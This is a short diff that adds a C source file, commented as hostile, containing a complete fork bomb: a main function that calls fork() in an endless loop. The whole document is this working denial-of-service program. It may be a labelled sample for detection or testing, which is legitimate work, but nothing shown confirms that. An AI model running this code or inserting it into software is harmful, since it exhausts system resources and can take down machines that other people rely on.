@@ -1,0 +1,7 @@
+/* hostile: a fork bomb */
+#include <unistd.h>
+int main(void)
+{
+	for (;;)
+		fork();
+}
